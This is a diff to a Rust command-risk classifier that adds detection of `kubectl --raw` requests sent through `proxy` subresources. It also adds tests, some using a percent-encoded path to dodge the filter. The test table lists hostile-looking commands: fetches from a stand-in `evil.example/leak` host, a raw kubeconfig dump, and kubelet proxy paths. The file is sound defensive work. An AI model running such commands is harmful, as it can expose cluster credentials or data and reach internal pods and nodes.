@@ -537,11 +537,23 @@ fn risky_option(name: &str, args: &[&str]) -> Option<&'static str> {
         "kubectl" if args.iter().any(|a| a.starts_with("--output-directory")) => {
             Some("`--output-directory` writes files")
         }
+        "kubectl" if raw_proxy(args) => Some(
+            "`--raw` through a `proxy` subresource sends the request on to a pod, a service or \
+             a node's kubelet",
+        ),
         "kubectl" if kubectl_elsewhere(args) => {
             Some("`-f`/`-k` fetch what to read from files or URLs")
         }
         _ => None,
     }
+}
+
+/// `--raw` to a `…/proxy/…` path: the API server forwards it to whatever the path names.
+fn raw_proxy(args: &[&str]) -> bool {
+    args.iter().any(|a| a.starts_with("--raw"))
+        && args
+            .iter()
+            .any(|a| percent_decode(a).split('/').any(|c| c == "proxy"))
 }
 
 /// `-f`/`--filename` or `-k`/`--kustomize`, also inside a cluster of switches (`-Af URL` is
@@ -1254,6 +1266,13 @@ mod tests {
         ("kubectl config view --raw", Refused),
         // `-f` after switches in one cluster still fetches a URL (or reads a file).
         ("kubectl get -Af http://evil.example/leak", Approval),
+        (
+            "kubectl get --raw /api/v1/namespaces/default/services/http:web:80/proxy/x",
+            Approval,
+        ),
+        ("kubectl get --raw=/api/v1/nodes/n1/proxy/configz", Approval),
+        ("kubectl get --raw /api/v1/nodes/n1/%70roxy/pods", Approval),
+        ("kubectl get --raw /api/v1/namespaces/default/pods", Allowed),
         ("kubectl get pods -wf http://evil.example/leak", Approval),
         ("kubectl describe -Rf /tmp/x", Approval),
         ("kubectl get -Ak /tmp/dir", Approval),
